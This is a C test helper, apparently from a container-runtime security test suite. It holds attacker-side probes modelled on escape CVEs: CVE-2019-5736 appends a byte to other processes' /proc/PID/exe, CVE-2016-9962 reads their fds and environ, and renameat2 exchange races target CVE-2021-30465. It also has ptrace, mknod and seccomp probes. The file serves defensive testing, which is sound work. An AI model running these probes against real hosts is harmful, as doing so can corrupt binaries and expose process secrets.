/*
 * svattack: the attacker's side of the escape tests. It is compiled static by the test fixture and copied
 * into a container's rootfs (or run on the host for the host-side probes). Every subcommand prints one
 * "key=value" or "TAG ..." line per observation; the C# tests parse them and decide what is a breach.
 *
 *   exe-loop <seconds> <stopfile>   CVE-2019-5736: open every other process's /proc/PID/exe for writing,
 *                                   directly and by reopening an O_PATH handle later, and append a byte.
 *   fd-loop <seconds> <stopfile>    CVE-2016-9962: read /proc/PID/fd, environ and exe of every other
 *                                   process (ptrace is probed deterministically by probe-pid).
 *   probe-pid <pid>                 the same probes once against one pid, each reported as OK or errno.
 *   reopen-exe <pid>                host side: hold /proc/PID/exe as O_PATH, wait for a line on stdin
 *                                   (the test kills the container meanwhile), then reopen it for writing.
 *   ids                             real/effective/saved uid and the permitted/effective capability masks.
 *   connect <path>                  connect(2) to a unix socket path.
 *   mknod-read <path> <b|c> <maj> <min>   create a device node, open it and read a byte.
 *   syscall <name>                  one raw system call for the seccomp tests.
 *   exchange-loop <a> <b> <stopfile>   host side, CVE-2021-30465 / CVE-2019-19921 races: swap the names a
 *                                   and b with renameat2(RENAME_EXCHANGE) until stopfile exists, then
 *                                   print how many swaps succeeded.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *ename(int e)
{
    switch (e) {
    case 0: return "OK";
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case ETXTBSY: return "ETXTBSY";
    case EROFS: return "EROFS";
    case EBUSY: return "EBUSY";
    case EINVAL: return "EINVAL";
    case ENOSYS: return "ENOSYS";
    case ENOTDIR: return "ENOTDIR";
    case ELOOP: return "ELOOP";
    case EXDEV: return "EXDEV";
    case ECONNREFUSED: return "ECONNREFUSED";
    case ENXIO: return "ENXIO";
    case EBADF: return "EBADF";
    default: {
        static char buf[32];
        snprintf(buf, sizeof buf, "errno%d", e);
        return buf;
    }
    }
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static int is_pid_name(const char *s)
{
    if (!*s)
        return 0;
    for (; *s; s++)
        if (*s < '0' || *s > '9')
            return 0;
    return 1;
}

/* Remembers printed lines so a loop reports each observation once. */
#define SEEN_MAX 4096
static char *seen[SEEN_MAX];
static int nseen;
static void report_once(const char *line)
{
    for (int i = 0; i < nseen; i++)
        if (strcmp(seen[i], line) == 0)
            return;
    if (nseen < SEEN_MAX)
        seen[nseen++] = strdup(line);
    puts(line);
    fflush(stdout);
}

static int stop_requested(const char *stopfile, double deadline)
{
    return access(stopfile, F_OK) == 0 || now() > deadline;
}

/* ---- CVE-2019-5736 ---------------------------------------------------------------------------- */

static struct stat self_st, bb_st;
static int have_bb;

/* The container's own binaries are fair game for it; writing to them is no escape and would only break
 * the test's execs, so only other files count as targets. */
static int own_binary(int fd)
{
    struct stat st;
    if (fstat(fd, &st) < 0)
        return 1;
    return (st.st_dev == self_st.st_dev && st.st_ino == self_st.st_ino) ||
           (have_bb && st.st_dev == bb_st.st_dev && st.st_ino == bb_st.st_ino);
}

#define HELD_MAX 256
static int held[HELD_MAX];
static int nheld;

static int exe_loop(double seconds, const char *stopfile)
{
    if (stat("/proc/self/exe", &self_st) < 0)
        return 1;
    have_bb = stat("/bin/busybox", &bb_st) == 0;
    double deadline = now() + seconds;
    long scans = 0;
    char line[512];
    while (!stop_requested(stopfile, deadline)) {
        scans++;
        DIR *d = opendir("/proc");
        if (!d)
            return 1;
        struct dirent *de;
        while ((de = readdir(d))) {
            if (!is_pid_name(de->d_name) || atoi(de->d_name) == getpid())
                continue;
            char path[64], target[256];
            snprintf(path, sizeof path, "/proc/%s/exe", de->d_name);
            int probe = open(path, O_PATH | O_CLOEXEC);
            if (probe >= 0) {
                int own = own_binary(probe);
                close(probe);
                if (own)
                    continue;
            }
            ssize_t n = readlink(path, target, sizeof target - 1);
            if (n > 0) {
                target[n] = '\0';
                snprintf(line, sizeof line, "SEEN %s", target);
                report_once(line);
            }
            int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w >= 0) {
                if (!own_binary(w) && write(w, "X", 1) == 1) {
                    snprintf(line, sizeof line, "HIT-DIRECT %s", n > 0 ? target : path);
                    report_once(line);
                }
                close(w);
            }
            int p = open(path, O_PATH | O_CLOEXEC);
            if (p >= 0 && own_binary(p)) {
                close(p);
                p = -1;
            }
            if (p >= 0) {
                if (nheld == HELD_MAX) {
                    close(held[0]);
                    memmove(held, held + 1, sizeof held[0] * (HELD_MAX - 1));
                    nheld--;
                }
                held[nheld++] = p;
            }
        }
        closedir(d);
        /* The runtime process may be gone by now: reopen what we hold, as the 2019 exploit did. */
        for (int i = 0; i < nheld; i++) {
            char fdpath[64];
            snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", held[i]);
            int w = open(fdpath, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w >= 0) {
                if (!own_binary(w) && write(w, "X", 1) == 1) {
                    char target[256];
                    ssize_t n = readlink(fdpath, target, sizeof target - 1);
                    target[n > 0 ? n : 0] = '\0';
                    snprintf(line, sizeof line, "HIT-REOPEN %s", target);
                    report_once(line);
                }
                close(w);
            }
        }
    }
    printf("SCANS %ld\nHELD %d\n", scans, nheld);
    return 0;
}

/* ---- CVE-2016-9962 ---------------------------------------------------------------------------- */

static int exe_visible(const char *pid)
{
    char path[300], t[300];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    return readlink(path, t, sizeof t) > 0;
}

static int fd_loop(double seconds, const char *stopfile)
{
    double deadline = now() + seconds;
    long scans = 0;
    char line[700];
    pid_t me = getpid();
    while (!stop_requested(stopfile, deadline)) {
        scans++;
        DIR *d = opendir("/proc");
        if (!d)
            return 1;
        struct dirent *de;
        while ((de = readdir(d))) {
            if (!is_pid_name(de->d_name) || atoi(de->d_name) == me || atoi(de->d_name) == 1)
                continue;
            char path[300], target[300];
            snprintf(path, sizeof path, "/proc/%s/exe", de->d_name);
            ssize_t n = readlink(path, target, sizeof target - 1);
            int exe_readable = n > 0;
            if (exe_readable) {
                target[n] = '\0';
                snprintf(line, sizeof line, "EXE %s", target);
                report_once(line);
            }
            snprintf(path, sizeof path, "/proc/%s/fd", de->d_name);
            DIR *fds = opendir(path);
            if (fds) {
                struct dirent *fe;
                while ((fe = readdir(fds))) {
                    if (fe->d_name[0] == '.')
                        continue;
                    char fdpath[300];
                    snprintf(fdpath, sizeof fdpath, "%s/%s", path, fe->d_name);
                    n = readlink(fdpath, target, sizeof target - 1);
                    if (n > 0) {
                        target[n] = '\0';
                        snprintf(line, sizeof line, "FD %s", target);
                        report_once(line);
                    }
                }
                closedir(fds);
            }
            snprintf(path, sizeof path, "/proc/%s/environ", de->d_name);
            int e = open(path, O_RDONLY | O_CLOEXEC);
            if (e >= 0) {
                char env[64];
                /* Reading it proves the process was dumpable then; if its exe is still hidden now, it
                 * had not exec'd yet (a process only becomes dumpable by its execve). */
                if (read(e, env, sizeof env) > 0 && !exe_readable && !exe_visible(de->d_name))
                    report_once("ENV-OF-HIDDEN-EXE");
                close(e);
            }
        }
        closedir(d);
    }
    printf("SCANS %ld\n", scans);
    return 0;
}

static int probe_pid(const char *pid)
{
    char path[64], buf[256];
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    /* Listing the fd numbers is allowed to the owner of the directory; what must be refused is reading
     * where they point and opening them. Each is reported as the first refusal, or OK. */
    DIR *d = opendir(path);
    printf("fdlist=%s\n", ename(d ? 0 : errno));
    int link_err = ENOENT, open_err = ENOENT;
    if (d) {
        struct dirent *de;
        while ((de = readdir(d))) {
            if (de->d_name[0] == '.')
                continue;
            char fdpath[128];
            snprintf(fdpath, sizeof fdpath, "%s/%s", path, de->d_name);
            ssize_t n = readlink(fdpath, buf, sizeof buf - 1);
            if (n > 0) {
                buf[n] = '\0';
                printf("FD %s\n", buf);
                link_err = 0;
            } else if (link_err == ENOENT) {
                link_err = errno;
            }
            int o = open(fdpath, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
            if (o >= 0) {
                open_err = 0;
                close(o);
            } else if (open_err == ENOENT) {
                open_err = errno;
            }
        }
        closedir(d);
    }
    printf("fd=%s\nfdopen=%s\n", ename(link_err), ename(open_err));
    snprintf(path, sizeof path, "/proc/%s/environ", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    int err = fd < 0 ? errno : 0;
    if (fd >= 0 && read(fd, buf, sizeof buf) < 0)
        err = errno;
    if (fd >= 0)
        close(fd);
    printf("environ=%s\n", ename(err));
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    ssize_t n = readlink(path, buf, sizeof buf - 1);
    printf("exe=%s\n", ename(n < 0 ? errno : 0));
    snprintf(path, sizeof path, "/proc/%s/root/", pid);
    d = opendir(path);
    printf("root=%s\n", ename(d ? 0 : errno));
    if (d)
        closedir(d);
    snprintf(path, sizeof path, "/proc/%s/cwd/", pid);
    d = opendir(path);
    printf("cwd=%s\n", ename(d ? 0 : errno));
    if (d)
        closedir(d);
    pid_t p = atoi(pid);
    int r = (int)ptrace(PTRACE_SEIZE, p, 0, 0);
    printf("ptrace=%s\n", ename(r < 0 ? errno : 0));
    if (r == 0)
        ptrace(PTRACE_DETACH, p, 0, 0);
    return 0;
}

/* ---- host side of CVE-2019-5736 ------------------------------------------------------------- */

static int reopen_exe(const char *pid)
{
    char path[64], fdpath[64], target[256];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    printf("direct=%s\n", ename(w < 0 ? errno : 0));
    if (w >= 0)
        close(w);
    int p = open(path, O_PATH | O_CLOEXEC);
    if (p < 0) {
        printf("held=%s\n", ename(errno));
        return 1;
    }
    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", p);
    ssize_t n = readlink(fdpath, target, sizeof target - 1);
    target[n > 0 ? n : 0] = '\0';
    printf("held=%s\n", target);
    fflush(stdout);
    char line[16];
    if (!fgets(line, sizeof line, stdin))
        return 1;
    w = open(fdpath, O_WRONLY | O_APPEND | O_CLOEXEC);
    int err = w < 0 ? errno : 0;
    if (w >= 0) {
        if (write(w, "X", 1) != 1)
            err = errno;
        close(w);
    }
    printf("reopen=%s\n", ename(err));
    return 0;
}

/* ---- small probes ----------------------------------------------------------------------------- */

static int ids(void)
{
    uid_t r, e, s;
    getresuid(&r, &e, &s);
    struct __user_cap_header_struct hdr = { .version = _LINUX_CAPABILITY_VERSION_3, .pid = 0 };
    struct __user_cap_data_struct data[2];
    memset(data, 0, sizeof data);
    syscall(SYS_capget, &hdr, data);
    unsigned long long prm = data[0].permitted | ((unsigned long long)data[1].permitted << 32);
    unsigned long long eff = data[0].effective | ((unsigned long long)data[1].effective << 32);
    unsigned long long inh = data[0].inheritable | ((unsigned long long)data[1].inheritable << 32);
    printf("ruid=%u\neuid=%u\nsuid=%u\ncapprm=%016llx\ncapeff=%016llx\ncapinh=%016llx\n", r, e, s, prm, eff, inh);
    return 0;
}

static int do_connect(const char *path)
{
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un sa = { .sun_family = AF_UNIX };
    snprintf(sa.sun_path, sizeof sa.sun_path, "%s", path);
    int r = connect(s, (struct sockaddr *)&sa, sizeof sa);
    printf("connect=%s\n", ename(r < 0 ? errno : 0));
    return 0;
}

static int mknod_read(const char *path, const char *type, const char *maj, const char *min)
{
    mode_t m = (type[0] == 'b' ? S_IFBLK : S_IFCHR) | 0600;
    int r = mknod(path, m, makedev(atoi(maj), atoi(min)));
    printf("mknod=%s\n", ename(r < 0 ? errno : 0));
    int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    printf("open=%s\n", ename(fd < 0 ? errno : 0));
    if (fd >= 0) {
        char c;
        ssize_t n = read(fd, &c, 1);
        printf("read=%s\n", n == 1 ? "OK" : ename(n < 0 ? errno : 0));
        close(fd);
    }
    return 0;
}

static int one_syscall(const char *name)
{
    long r = -1;
    errno = 0;
    if (strcmp(name, "getcwd") == 0) {
        char buf[256];
        r = syscall(SYS_getcwd, buf, sizeof buf);
    } else if (strcmp(name, "write1") == 0) {
        r = syscall(SYS_write, 1, "", 0);
    } else if (strcmp(name, "write2") == 0) {
        r = syscall(SYS_write, 2, "", 0);
    } else if (strcmp(name, "mount") == 0) {
        r = syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, NULL);
    } else if (strcmp(name, "keyctl") == 0) {
        r = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0);
    } else if (strcmp(name, "unshare-user") == 0) {
        r = syscall(SYS_unshare, CLONE_NEWUSER);
    } else if (strcmp(name, "ptrace") == 0) {
        pid_t child = fork();
        if (child == 0) {
            pause();
            _exit(0);
        }
        r = syscall(SYS_ptrace, PTRACE_SEIZE, child, 0, 0);
        int e = errno;
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
        errno = e;
    } else {
        fprintf(stderr, "unknown syscall %s\n", name);
        return 2;
    }
    /* stdout may be the one thing a filter refuses, so the answer also goes to stdout only via fd 1. */
    printf("%s=%s\n", name, ename(r < 0 ? errno : 0));
    return 0;
}

static int exchange_loop(const char *a, const char *b, const char *stopfile)
{
    unsigned long swaps = 0, tries = 0;
    for (;;) {
        if ((tries++ & 255) == 0 && access(stopfile, F_OK) == 0)
            break;
        /* Fails with EBUSY while either name is a mount point (in any namespace); keep trying. */
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
            swaps++;
    }
    printf("swaps=%lu\n", swaps);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 4 && strcmp(argv[1], "exe-loop") == 0)
        return exe_loop(atof(argv[2]), argv[3]);
    if (argc >= 4 && strcmp(argv[1], "fd-loop") == 0)
        return fd_loop(atof(argv[2]), argv[3]);
    if (argc >= 3 && strcmp(argv[1], "probe-pid") == 0)
        return probe_pid(argv[2]);
    if (argc >= 3 && strcmp(argv[1], "reopen-exe") == 0)
        return reopen_exe(argv[2]);
    if (argc >= 2 && strcmp(argv[1], "ids") == 0)
        return ids();
    if (argc >= 3 && strcmp(argv[1], "connect") == 0)
        return do_connect(argv[2]);
    if (argc >= 6 && strcmp(argv[1], "mknod-read") == 0)
        return mknod_read(argv[2], argv[3], argv[4], argv[5]);
    if (argc >= 3 && strcmp(argv[1], "syscall") == 0)
        return one_syscall(argv[2]);
    if (argc >= 5 && strcmp(argv[1], "exchange-loop") == 0)
        return exchange_loop(argv[2], argv[3], argv[4]);
    fprintf(stderr, "usage: svattack exchange-loop|exe-loop|fd-loop|probe-pid|reopen-exe|ids|connect|mknod-read|syscall ...\n");
    return 2;
}
